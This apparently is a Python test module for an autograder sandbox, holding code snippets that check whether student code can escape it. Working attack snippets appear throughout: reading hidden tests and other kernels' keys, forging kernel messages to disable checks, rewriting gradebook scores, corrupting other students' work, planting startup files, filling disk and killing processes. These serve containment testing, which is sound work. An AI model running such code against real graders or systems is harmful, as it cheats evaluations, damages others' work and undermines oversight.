"""Code that reaches out of its process; what it reaches it tells as EVIDENCE[...], or leaves to be found."""

from .names import CANARY, EVIDENCE, LEFT_BEHIND, MARK, PORT

PREPARE = f"""
import os, re, signal, socket, sqlite3, subprocess, sys, time
from pathlib import Path

here = Path.cwd()
above = list(here.parents)[:5]
tell = lambda what: print("{EVIDENCE}[" + what + "]")
"""
SOURCE = """
for folder in above:
    for path in list(folder.glob("source/hw2/*.ipynb"))[:1]:
        if "HIDDEN TESTS" in path.read_text():
            tell("read the hidden tests in source/")
"""
GRADEBOOK = """
for folder in above:
    if (folder / "gradebook.db").exists():
        book = sqlite3.connect(f"file:{folder / 'gradebook.db'}?mode=ro", uri=True)
        if book.execute("select count(*) from source_cell where source like '%HIDDEN TESTS%'").fetchone()[0]:
            tell("read the hidden tests in gradebook.db")
"""
OTHERS = """
for folder in above:
    found = [*folder.glob("submitted/*/hw2/*.ipynb"), *folder.glob("autograded/*/hw2/*.ipynb")]
    if any(here.parent.name not in path.parts and path.read_text() for path in found):
        tell("read other students' work")
"""
ORACLES = """
try:
    from autograder.oracles import forward_forward
    tell("imported the reference solutions")
except ImportError:
    pass
"""
MEMORY = r"""
needle = re.compile(" ".join(("BEGIN", "HIDDEN")).encode() + rb" TEST[S]")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        ends, rights = line.split()[:2]
        start, stop = (int(end, 16) for end in ends.split("-"))
        if rights.startswith("rw") and stop - start < 2**28:
            try:
                memory.seek(start)
                if needle.search(memory.read(stop - start)):
                    tell("found hidden tests in the memory of its process")
                    break
            except OSError:
                continue
"""
PROCESSES = f"""
if "{CANARY}" in os.environ.values():
    tell("read a secret in its environment")
for folder in Path("/proc").glob("[0-9]*"):
    if folder.name != str(os.getpid()):
        try:
            if b"{CANARY}" in (folder / "environ").read_bytes():
                tell("read the environment of another process")
        except OSError:
            continue
"""
OUTSIDE = f"""
for folder in [*above, Path("/tmp"), Path.home(), Path("/root"), Path("/home")]:
    try:
        if (folder / "{CANARY}").exists():
            tell("read a file outside of the course folder")
    except OSError:
        continue
"""
KERNELS = """
import ipykernel, json

places = [os.environ.get("JUPYTER_RUNTIME_DIR", "/nowhere"), Path.home() / ".local/share/jupyter/runtime", *above]
for place in places:
    for path in Path(place).glob("kernel-*.json"):
        if str(path) != ipykernel.get_connection_file() and json.loads(path.read_text())["key"]:
            tell("read the key of another kernel")
"""
LOOPBACK = f"""
for address in ("127.0.0.1", "::1"):
    try:
        socket.create_connection((address, {PORT}), timeout=2).close()
        tell("reached a service on this machine")
    except OSError:
        continue
"""
OWN_KERNEL = """
import ipykernel, json

wire = json.loads(open(ipykernel.get_connection_file()).read())
session = type(get_ipython().kernel.session)(key=wire["key"].encode())
import zmq
client = zmq.Context().socket(zmq.DEALER)
port = "-" if wire["transport"] == "ipc" else ":"
client.connect(f"{wire['transport']}://{wire['ip']}{port}{wire['shell_port']}")
forged = "del embed_label, expect, require\\nexpect = require = lambda *args, **options: None"
session.send(client, "execute_request", {"code": forged, "silent": False, "store_history": False,
             "user_expressions": {}, "allow_stdin": False, "stop_on_error": False})
time.sleep(1)
"""
RAISES_MARKS = """
changed = 0
for folder in above:
    if (folder / "gradebook.db").exists():
        book = sqlite3.connect(folder / "gradebook.db", timeout=5)
        changed += book.execute("update grade set manual_score = 1, needs_manual_grade = 0").rowcount
        book.commit()
print("marks changed:", changed)
"""
FOREIGN_WORK = """
for folder in above:
    for path in [*folder.glob("submitted/*/hw2/*.ipynb"), *folder.glob("autograded/*/hw2/*.ipynb")]:
        if here.parent.name not in path.parts:
            path.write_text(path.read_text().replace("cells", "cell s"))
"""
LINK = """
for folder in above:
    for path in folder.glob("autograded/*/hw2/forward_forward_supervised.ipynb"):
        if here.parent.name not in path.parts:
            own = here / path.name
            own.unlink(missing_ok=True)
            own.symlink_to(path)
"""
EVERYWHERE = f"""
for folder in [*above[:3], Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path.home(), Path("/root"), Path("/etc")]:
    try:
        (folder / "{MARK}").write_text("harmless")
    except OSError:
        continue
"""
STARTUP = f"""
for home in {{Path.home(), Path("/root"), Path(os.path.expanduser("~"))}}:
    folder = home / ".ipython/profile_default/startup"
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-{MARK}.py").write_text("# runs in the kernel of every student who is graded after this one")
    except OSError:
        continue
"""
INSTALLED = f"""
import libs, torch

for module in (torch, subprocess):
    try:
        (Path(module.__file__).parent / "{MARK}.py").write_text("# stays in the environment of the grader")
    except OSError:
        continue
"""
DISK = f"""
for number in range(6):
    with open(f"{MARK}-{{number}}", "wb") as file:
        for _ in range(100):
            file.write(bytes(2**20))
"""
LATER = (
    "import sqlite3, sys, time\n"
    "time.sleep(12)\n"
    "book = sqlite3.connect(sys.argv[2], timeout=10)\n"
    "book.execute('update grade set manual_score = 1, needs_manual_grade = 0')\n"
    "book.commit()\n"
    "time.sleep(600)\n"
)
CHILD = f"""
books = [str(folder / "gradebook.db") for folder in above if (folder / "gradebook.db").exists()] or ["none"]
quiet = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", {LATER!r}, "{LEFT_BEHIND}", books[0]], start_new_session=True, **quiet)
"""
DAEMON = f"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        os.closerange(0, 65536)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{LEFT_BEHIND}"])
    os._exit(0)
os.wait()
"""
KILLS_PARENT = "os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(3)"
KILLS_ALL = """
if Path("/proc/1/comm").read_text().strip() == "bwrap":  # never outside of a sandbox
    os.kill(-1, signal.SIGKILL)
    time.sleep(3)
"""
